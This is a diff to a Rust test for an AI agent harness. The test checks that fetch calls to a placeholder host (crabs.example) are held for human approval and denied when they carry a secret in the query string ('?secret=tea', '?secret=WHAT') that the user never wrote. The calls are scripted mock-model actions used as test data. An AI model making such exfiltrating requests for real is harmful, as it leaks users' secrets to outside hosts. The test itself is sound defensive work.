@@ -235,7 +235,7 @@ struct Url {
 impl Tool for Fetch {
     type Args = Url;
     const SPEC: ToolSpec = ToolSpec {
-        name: "fetch",
+        name: "web_fetch",
         description: "Fetches.",
         role: Role::User,
         kind: Kind::Reads,
@@ -257,16 +257,30 @@ impl Tool for Fetch {
 async fn an_address_that_nobody_wrote_is_not_asked_for_unseen() {
     let tools = ToolSet::new([Arc::new(Fetch) as Arc<dyn AnyTool>]);
     let mut rig = Rig::of(Parts { tools, ..Parts::default() }).await;
-    let fetch = |url: &str| calls(&[("fetch", json!({ "url": url }))]);
+    let fetch = |url: &str| calls(&[("web_fetch", json!({ "url": url }))]);
     // The first one is the model's own, before it has read anything; the second stands on the page.
     let (first, next) = (fetch("http://crabs.example/1"), fetch("http://crabs.example/next"));
-    let made_up = fetch("http://crabs.example/?secret=tea");
-    rig.model.on("look", [first, next, made_up, says("No.")]);
+    let read = |path: &str| calls(&[("read_file", json!({ "path": path }))]);
+    let made_up = || fetch("http://crabs.example/?secret=tea");
+    rig.model.on("look", [first, next, made_up(), says("No.")]);
     let question = rig.ask("1", "look it up").await;
     assert!(asked(&question) && question.contains("?secret=tea"), "{question}");
     assert_eq!(rig.look("SELECT state FROM calls ORDER BY id"), ["done", "done", "waiting"]);
     rig.say("1", "/deny 1");
     rig.heard("1", 3).await;
+    // Nor once the model has had it come back to itself, or has left a part of a known one out.
+    let wrong = read("http://crabs.example/?secret=tea");
+    rig.model.on("again", [wrong, made_up(), says("No.")]);
+    assert!(asked(&rig.ask("1", "again").await));
+    rig.say("1", "/deny 2");
+    rig.heard("1", 3).await;
+    rig.model.on("part", [fetch("http://crabs.example/?secret=WHAT"), says("No.")]);
+    assert!(asked(&rig.ask("1", "a part").await));
+    rig.say("1", "/deny 3");
+    rig.heard("1", 3).await;
+    // What a person writes is theirs to say.
+    rig.model.on("this", [fetch("http://crabs.example/?secret=mine"), says("Read.")]);
+    assert_eq!(rig.ask("1", "read this: http://crabs.example/?secret=mine.").await, "Read.");
     rig.finish().await;
 }
 
